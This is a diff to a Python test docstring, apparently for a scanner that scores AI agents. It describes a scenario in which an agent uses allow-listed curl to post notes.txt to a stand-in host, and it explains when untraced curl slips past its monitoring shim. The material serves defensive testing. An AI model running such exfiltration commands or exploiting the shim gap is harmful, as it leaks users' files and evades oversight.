@@ -3,6 +3,11 @@
 curl is on the server's allow list (a common one for "fetch docs" setups); the agent runs
 `curl --data-binary @notes.txt` to a host it was told about (a local listener standing in
 for it). The destination is on no policy list: MCS108 under that shell_execute.
+
+Untraced, curl bypasses its shim in this server's environment (MCS405, when sampled), so
+MCS108 comes from a sample of curl: the listener never answers and curl waits out its
+`-m 2` (exit 28, a "scenario problem" the scorer lists). A host that answers at once
+would leave the untraced session nothing to sample; the traced one sees the connect.
 """
 
 from __future__ import annotations
